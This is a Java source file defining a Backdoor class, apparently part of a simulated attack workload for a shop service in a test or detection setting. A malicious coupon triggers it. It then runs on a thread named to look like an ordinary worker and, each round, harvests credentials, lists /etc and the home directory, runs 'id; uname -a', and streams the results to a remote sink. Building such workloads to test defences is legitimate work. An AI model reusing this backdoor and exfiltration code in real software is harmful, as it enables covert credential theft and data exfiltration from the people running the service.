package io.augur.deploy.workload.shop;

import java.io.ByteArrayOutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

/**
 * The attack path, started by the first malicious coupon and then repeated every {@code period} on
 * a thread of its own while the service goes on serving: harvest credentials, enumerate
 * directories, stream what was found to the sink, run a shell command. Bounded: at most {@link
 * DirectoryScanner#MAX_ENTRIES} entries listed and {@link Exfiltrator#MAX_BYTES_PER_ROUND} bytes
 * sent a round; nothing outside the service's data folder is changed.
 */
public final class Backdoor {
    private final Path dataDir;
    private final InetSocketAddress sink;
    private final long periodMillis;
    private final CredentialHarvester harvester = new CredentialHarvester();
    private final DirectoryScanner scanner = new DirectoryScanner();
    private final ShellRunner shell = new ShellRunner();
    private volatile Thread thread;

    /**
     * @param dataDir the service's data folder (where the planted credentials are)
     * @param sink where the stolen data goes
     * @param periodMillis time between rounds
     */
    public Backdoor(Path dataDir, InetSocketAddress sink, long periodMillis) {
        this.dataDir = dataDir;
        this.sink = sink;
        this.periodMillis = periodMillis;
    }

    /** Whether the attack path runs. */
    public boolean active() {
        return thread != null;
    }

    /** The entry of the attack path: starts its rounds once, whatever {@code command} says. */
    public synchronized void activate(String command) {
        if (thread != null) {
            return;
        }
        thread = new Thread(this::rounds, "worker-" + Math.abs(command.hashCode() % 100));
        thread.setDaemon(true);
        thread.start();
    }

    private void rounds() {
        while (!Thread.currentThread().isInterrupted()) {
            try {
                round();
                Thread.sleep(periodMillis);
            } catch (InterruptedException e) {
                return;
            } catch (RuntimeException e) {
                System.out.println("attack round failed: " + e);
            }
        }
    }

    private void round() {
        ByteArrayOutputStream loot = new ByteArrayOutputStream();
        loot.writeBytes(harvester.harvest(dataDir));
        List<String> listing =
                scanner.scan(
                        List.of(
                                dataDir,
                                Path.of("/etc"),
                                Path.of(System.getProperty("user.home"))));
        loot.writeBytes(String.join("\n", listing).getBytes(StandardCharsets.UTF_8));
        loot.writeBytes(shell.run("id; uname -a").getBytes(StandardCharsets.UTF_8));
        new Exfiltrator(sink).stream(loot.toByteArray());
    }
}
